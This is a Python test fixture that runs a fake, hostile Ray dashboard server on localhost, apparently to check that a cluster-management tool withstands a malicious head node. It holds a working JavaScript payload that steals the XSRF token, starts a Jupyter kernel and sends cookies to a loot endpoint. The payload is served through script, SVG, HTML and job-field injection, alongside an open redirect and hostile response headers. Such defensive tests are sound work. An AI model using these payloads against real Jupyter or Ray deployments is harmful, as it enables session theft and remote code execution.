"""A head in the hands of an attacker: whatever it is asked, its answer tries to start a kernel."""

from __future__ import annotations

import importlib.metadata
import json
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import psutil

from llmops_kernel.providers.local.record import HeadRecord, cluster_folder
from tests.providers.conftest import head_record

NAME = "evil"
_ATTACK = """
document.title = 'PWNED';
(async () => {
  const page = await (await fetch('BASE/lab')).text().catch(() => '');
  const xsrf = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1];
  await fetch('BASE/api/kernels', {
    method: 'POST', credentials: 'include', headers: {'X-XSRFToken': xsrf}, body: '{}'
  });
  new Image().src = 'LOOT/loot?' + encodeURIComponent(document.cookie);
})();
"""


class HostileHead(BaseHTTPRequestHandler):
    """Says that it is a Ray of our version, so that its dashboard is opened."""

    base = ""
    version = ""
    asked: list[str] = []  # noqa: RUF012 (emptied by `hostile_head`)

    def do_GET(self) -> None:
        self.asked.append(self.path)
        path = self.path.partition("?")[0]
        if "websocket" in self.headers.get("Upgrade", "").lower() or path == "/socket":
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.end_headers()
        elif path == "/api/version":
            self._send("application/json", json.dumps({"ray_version": self.version}))
        elif path in ("/api/grafana_health", "/api/prometheus_health"):
            self._send("application/json", json.dumps(self._grafana()))
        elif path.startswith("/redirect"):
            self.send_response(302)
            self.send_header("Location", self.path.partition("?")[2])
            self.end_headers()
        elif path.endswith(".js"):
            self._send("text/javascript", self._attack())
        elif path.endswith(".svg"):
            drawing = f"<script><![CDATA[{self._attack()}]]></script>"
            svg = f'<svg xmlns="http://www.w3.org/2000/svg">{drawing}</svg>'
            self._send("image/svg+xml", svg)
        else:
            # Also where JSON is expected: its text is shown somewhere in Ray's pages.
            page = (
                f"<img src=x onerror=\"document.title='PWNED'\"><script>{self._attack()}</script>"
            )
            is_json = path.startswith("/api/jobs")
            self._send("text/html", json.dumps([_job(page)]) if is_json else page)

    def _attack(self) -> str:
        loot = f"http://127.0.0.1:{self.server.server_address[1]}"
        return _ATTACK.replace("BASE", self.base).replace("LOOT", loot)

    def _grafana(self) -> dict[str, object]:
        """A Grafana that is a page of the attacker's."""
        host = f"http://127.0.0.1:{self.server.server_address[1]}/loot"
        uids = dict.fromkeys(("default", "serve", "serveDeployment", "data", "train"), "x")
        data = {"grafanaHost": host, "grafanaOrgId": "1", "sessionName": "s"}
        return {"result": True, "data": {**data, "dashboardUids": uids, "dashboardDatasource": "p"}}

    def _send(self, kind: str, text: str) -> None:
        body = text.encode()
        self.send_response(200)
        for name, value in {
            "Content-Type": kind,
            "Content-Length": str(len(body)),
            "Set-Cookie": "_xsrf=theirs; Path=/",
            "Clear-Site-Data": '"cookies"',
            "Access-Control-Allow-Origin": "*",
            "Refresh": "0; url=/api/kernels",
            "Service-Worker-Allowed": "/",
        }.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Nothing."""


@contextmanager
def hostile_head(home: Path, *, base: str) -> Iterator[list[str]]:
    """A local cluster `evil` in `home`; yields the paths that its head was asked for."""
    HostileHead.base, HostileHead.version = base, _version()
    HostileHead.asked.clear()
    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileHead)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    folder = cluster_folder(home, NAME)
    with subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"]) as process:
        try:
            folder.create()
            folder.token.write_text("token")
            folder.write(_record(folder.root, port=server.server_port, pid=process.pid))
            yield HostileHead.asked
        finally:
            process.kill()
            server.shutdown()
            server.server_close()
            shutil.rmtree(folder.root)


def _record(folder: Path, *, port: int, pid: int) -> HeadRecord:
    (folder / "ray").mkdir()
    return head_record(
        folder / "ray",
        name=NAME,
        dashboard_port=port,
        pid=pid,
        pid_created_s=psutil.Process(pid).create_time(),
        ray_version=_version(),
        template={"name": NAME},
    )


def _version() -> str:
    return importlib.metadata.version("ray")


def _job(markup: str) -> dict[str, object]:
    """What Ray's page of jobs shows, with markup wherever there is text."""
    texts = dict.fromkeys(("entrypoint", "message", "error_type", "driver_node_id"), markup)
    return {
        **texts,
        "type": "SUBMISSION",
        "status": "RUNNING",
        "job_id": "01000000",
        "submission_id": "evil-job",
        "start_time": 1,
        "end_time": None,
        "driver_info": None,
        "metadata": {},
        "runtime_env": {},
    }
